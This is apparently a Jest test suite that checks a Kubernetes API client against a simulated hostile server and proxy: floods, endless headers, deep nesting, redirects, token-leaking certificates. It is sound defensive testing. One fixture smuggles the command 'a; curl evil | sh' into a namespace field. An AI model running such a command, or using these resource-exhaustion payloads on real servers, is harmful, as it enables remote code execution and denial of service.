import { once } from 'node:events';
import { type AddressInfo, createServer, type Socket } from 'node:net';
import { afterEach, beforeAll, describe, expect, test } from '@jest/globals';
import { type Connection, connect } from '../../../shared/kubernetes/connect.ts';
import { parseCidrs } from '../../../shared/network/cidr.ts';
import { preflight } from '../../../shared/preflight/preflight.ts';
import { type Authority, createAuthority } from '../../../shared/simulation/certificates.ts';
import { advice } from '../../../shared/targets/advice.ts';
import { type AttackName, attacks, MiB, secret, sized } from '../../support/hostile/attacks.ts';
import { type Attack, flood, type HostileServer, startHostileServer } from '../../support/hostile/server.ts';

let authority: Authority;
let server: HostileServer;
const connections: Connection[] = [];

beforeAll(async () => {
  authority = await createAuthority('hostile-ca');
});

afterEach(async () => {
  for (const connection of connections.splice(0)) connection.close();
  await server.stop();
});

async function attackedBy(
  attack: Attack,
  options: { requestTimeout?: number; sleep?: () => Promise<void> } = {},
) {
  server = await startHostileServer(attack, { authority });
  const connection = connect(server.kubeconfig, {
    advice,
    deadline: Date.now() + 60_000,
    allowedCidrs: parseCidrs('127.0.0.0/8'),
    sleep: async () => undefined,
    ...options,
  });
  connections.push(connection);
  return connection.api;
}

/** Bytes that a connection accepts beyond what is read: buffers at both ends. */
const onTheWay = 8 * MiB;

/** The failure of an apply with such an answer, and the most bytes that the server can send. */
const expectations: Record<AttackName, { says: object; most: number }> = {
  'a success of 31 MiB': { says: unreachable('was answered with more than 4194304 bytes'), most: 160 * MiB },
  'a success without end': { says: unreachable('more than 4194304 bytes'), most: 160 * MiB },
  'a refusal of 31 MiB': {
    says: {
      ...unreachable(
        'answered 403 in other words than a Kubernetes API server’s: more than 65536 bytes, which were not read',
      ),
      status: undefined,
    },
    most: onTheWay,
  },
  'a refusal that quotes at length': {
    says: { kind: 'denied', message: expect.stringContaining('The admission webhook "w" denied') },
    most: onTheWay,
  },
  'a refusal that is nested deeply': {
    says: unreachable('answered 403 in other words than a Kubernetes API server’s'),
    most: onTheWay,
  },
  'a success of single bytes': { says: unreachable('pieces in'), most: 4 * onTheWay },
  'a refusal of single bytes': { says: unreachable('pieces in'), most: 4 * onTheWay },
  'chunks with extensions without end': {
    says: unreachable('HPE_CHUNK_EXTENSIONS_OVERFLOW'),
    most: 4 * onTheWay,
  },
  'headers without end': { says: unreachable('HPE_HEADER_OVERFLOW'), most: 4 * onTheWay },
  'trailers without end': { says: unreachable('HPE_HEADER_OVERFLOW'), most: 4 * onTheWay },
  'answers before the answer without end': {
    says: unreachable('more than 16 informational answers'),
    most: 4 * onTheWay,
  },
  'another protocol': { says: unreachable('ERR_UNASKED_UPGRADE'), most: 4 * onTheWay },
  'a compressed body': { says: unreachable('is not a Kubernetes API server'), most: onTheWay },
};

function unreachable(message: string) {
  return { kind: 'unreachable', message: expect.stringContaining(message) };
}

describe.each(Object.keys(attacks) as AttackName[])('%s', (name) => {
  test('is a failure that says so, and reads no more than necessary', async () => {
    const { says, most } = expectations[name];
    const api = await attackedBy(attacks[name]);
    await expect(
      api.applySecret({ namespace: 'payments', name: 'ecr-credentials', body: '{}' }),
    ).rejects.toMatchObject({
      name: 'Failure',
      remedy: expect.stringMatching(/./),
      ...says,
    });
    expect(server.sent()).toBeLessThan(most);
  });
});

test('a certificate whose names repeat the token is reported without them', async () => {
  server = await startHostileServer(
    async (socket) => {
      await server.showNames([token, 'other.example.com']);
      socket.destroy();
    },
    { authority },
  );
  const token = 'eyJhbGciOiJSUzI1NiJ9-of-the-cluster';
  const kubeconfig = { ...server.kubeconfig, credential: { token } };
  const spec = { name: 'prod-eu-1', registries: [], targets: [] } as never;
  const world = {
    allowedCidrs: parseCidrs('127.0.0.0/8'),
    now: Date.now,
    freshTokens: () => () => Promise.reject(new Error('no registry is named')),
  } as never;
  const found = await preflight(world, { spec, kubeconfig }, Date.now() + 20_000);
  expect(found.contact).toMatchObject({ failure: { message: expect.stringContaining('other.example.com') } });
  expect(JSON.stringify(found)).not.toContain('of-the-cluster');
});

test('a redirect is never followed', async () => {
  const api = await attackedBy((socket) =>
    socket.write('HTTP/1.1 307 Temporary Redirect\r\nLocation: /elsewhere\r\nContent-Length: 0\r\n\r\n'),
  );
  await expect(api.reviewSelf()).rejects.toMatchObject({
    message: expect.stringContaining('answered 307 in other words'),
  });
  expect(server.requests).toHaveLength(1);
});

test('an unrequested answer ends the connection, and is not used for a later request', async () => {
  const ours = (user: string) =>
    sized('201 Created', `{"kind":"SelfSubjectReview","status":{"userInfo":{"username":"${user}"}}}`);
  const api = await attackedBy((socket) => socket.write(`${ours('robot')}${ours('somebody else')}`));
  expect((await api.reviewSelf()).username).toBe('robot');
  expect((await api.reviewSelf()).username).toBe('robot');
  expect(server.connections()).toBe(2);
});

test.each([
  ['answers', sized('200 OK', `${secret},"x":"${'x'.repeat(MiB)}"}`)],
  [
    'refusals, in which credentials are searched for,',
    sized('403 Forbidden', `{"message":"${'x'.repeat(8_192)}"}`),
  ],
])('large %s of one cluster are read one at a time, small ones beside them', async (_, large) => {
  const pauses: (() => void)[] = [];
  const sleep = () => new Promise<void>((resolve) => pauses.push(resolve));
  const api = await attackedBy(
    (socket, { path }) => socket.write(path.includes('/small/') ? sized('200 OK', `${secret}}`) : large),
    { sleep },
  );
  const done: string[] = [];
  const apply = async (namespace: string) => {
    await api.applySecret({ namespace, name: 'ecr-credentials', body: '{}' }).catch(() => undefined);
    done.push(namespace);
  };
  await apply('first');
  const second = apply('second');
  await until(() => server.requests.length === 2);
  await apply('small');
  expect(done).toEqual(['first', 'small']);
  pauses[0]?.();
  await second;
});

test('a server that answers far too much again and again is not asked again in this push', async () => {
  const refusal = sized('403 Forbidden', 'x'.repeat(100 * 1024));
  const api = await attackedBy((socket) => socket.write(refusal));
  const apply = () => api.applySecret({ namespace: 'payments', name: 'ecr-credentials', body: '{}' });
  for (let refused = 0; refused < 17; refused++)
    await expect(apply()).rejects.toMatchObject({
      message: expect.stringContaining('answered 403 in other words'),
    });
  await expect(apply()).rejects.toMatchObject({
    kind: 'unreachable',
    message: expect.stringContaining('more than 268435456 bytes in one push'),
  });
  expect(server.requests).toHaveLength(17);
});

test('a name that no URL can hold is asked for all the same, and refused by the server', async () => {
  const api = await attackedBy((socket) => socket.write(sized('404 Not Found', '{"kind":"Status"}')));
  await expect(api.readSecret({ namespace: '\ud800', name: 'a' })).rejects.toMatchObject({ name: 'Failure' });
  expect(server.requests).toHaveLength(1);
});

test('a list of secrets with a namespace that is a command is refused: remedies name namespaces', async () => {
  const items = '[{"metadata":{"name":"ecr-credentials","namespace":"a; curl evil | sh"}}]';
  const text = sized('200 OK', `{"kind":"PartialObjectMetadataList","metadata":{},"items":${items}}`);
  const api = await attackedBy((socket) => socket.write(text));
  await expect(
    api.listSecretMetadata({ name: 'ecr-credentials', keep: (metadata) => metadata }),
  ).rejects.toMatchObject({ name: 'Failure', message: expect.stringContaining('is not a Kubernetes') });
});

describe('a proxy that answers CONNECT', () => {
  const proxies: Record<string, { answer: (socket: Socket) => void; says: object }> = {
    'with headers without end': {
      answer: (socket) => {
        socket.write('HTTP/1.1 200 OK\r\n');
        flood(socket, 'x-more: of it\r\n'.repeat(10_000));
      },
      says: { kind: 'unreachable', message: expect.stringContaining('HPE_HEADER_OVERFLOW') },
    },
    'with answers before the answer without end': {
      answer: (socket) => flood(socket, 'HTTP/1.1 103 Early Hints\r\n\r\n'.repeat(1_000)),
      says: { kind: 'unreachable', message: expect.stringContaining('103') },
    },
    'with a refusal without end': {
      answer: (socket) => {
        socket.write('HTTP/1.1 407 Proxy Authentication Required\r\nConnection: close\r\n\r\n');
        flood(socket, 'x'.repeat(MiB));
      },
      says: { kind: 'unreachable', message: expect.stringContaining('407') },
    },
    'with a tunnel, and garbage without end': {
      answer: (socket) => {
        socket.write('HTTP/1.1 200 OK\r\n\r\n');
        flood(socket, 'x'.repeat(MiB));
      },
      says: { name: 'Failure' },
    },
    'with a tunnel that is reset at once': {
      answer: (socket) => socket.write('HTTP/1.1 200 OK\r\n\r\n', () => socket.resetAndDestroy()),
      says: { name: 'Failure' },
    },
  };

  test.each(Object.entries(proxies))('%s is reported, and does no harm', async (_name, { answer, says }) => {
    let sent = 0;
    const sockets = new Set<Socket>();
    const proxy = createServer((socket) => {
      sockets.add(socket);
      socket.on('error', () => undefined).on('close', () => (sent += socket.bytesWritten));
      socket.once('data', () => answer(socket));
    });
    await once(proxy.listen(0, '127.0.0.1'), 'listening');
    try {
      server = await startHostileServer(() => undefined, { authority });
      const connection = connect(
        {
          ...server.kubeconfig,
          server: 'https://127.0.0.1:6443',
          proxyUrl: `http://127.0.0.1:${(proxy.address() as AddressInfo).port}`,
        },
        {
          advice,
          deadline: Date.now() + 60_000,
          allowedCidrs: parseCidrs('127.0.0.0/8'),
          sleep: async () => undefined,
        },
      );
      connections.push(connection);
      await expect(connection.api.reviewSelf()).rejects.toMatchObject(says);
      expect(sent).toBeLessThan(2 * onTheWay);
    } finally {
      for (const socket of sockets) socket.destroy();
      proxy.close();
    }
  });
});

describe('a list of namespaces', () => {
  const list = (items: string, from = '') =>
    sized('200 OK', `{"kind":"NamespaceList","metadata":{"continue":"${from}"},"items":[${items}]}`);
  const limitIn = (path: string) => Number(/limit=(\d+)/.exec(path)?.[1]);
  const startIn = (path: string) => Number(/continue=(\d+)/.exec(path)?.[1] ?? 0);

  test('whose pages are too large, because of annotations, is read in smaller ones', async () => {
    const all = Array.from({ length: 60 }, (_, index) =>
      JSON.stringify({ metadata: { name: `n-${index}`, annotations: { large: 'x'.repeat(200 * 1024) } } }),
    );
    const api = await attackedBy((socket, { path }) => {
      const end = startIn(path) + limitIn(path);
      socket.write(list(all.slice(startIn(path), end).join(), end < all.length ? String(end) : ''));
    });
    const names = (await api.listNamespaces()).map(({ name }) => name);
    expect(names).toEqual(all.map((_, index) => `n-${index}`));
    expect(server.requests.map(({ path }) => limitIn(path)).slice(0, 4)).toEqual([500, 50, 5, 5]);
  });

  test.each([
    ['of nothing but empty objects', () => list(`${'{},'.repeat(1_000_000)}{}`), 'more than 250000 values'],
    ['nested deeply', () => list('['.repeat(3_000_000)), 'more than 250000 values'],
    ['whose pages are all empty', () => list('', 'more'), 'more than 100 pages not filled'],
    ['whose continue position is endless', () => list('', 'x'.repeat(MiB)), 'characters of "continue"'],
    [
      'with a name that no namespace can have',
      () => list('{"metadata":{"name":"\\ud800"}}'),
      'is not a Kubernetes',
    ],
    [
      'with a name of a megabyte',
      () => list(`{"metadata":{"name":"${'x'.repeat(MiB)}"}}`),
      'is not a Kubernetes',
    ],
  ])('%s is given up', async (_name, answer, message) => {
    const text = answer();
    const api = await attackedBy((socket) => socket.write(text));
    await expect(api.listNamespaces()).rejects.toMatchObject({
      name: 'Failure',
      kind: 'unreachable',
      message: expect.stringContaining(message),
    });
  });
});

async function until(holds: () => boolean): Promise<void> {
  while (!holds()) await new Promise((resolve) => setImmediate(resolve));
}
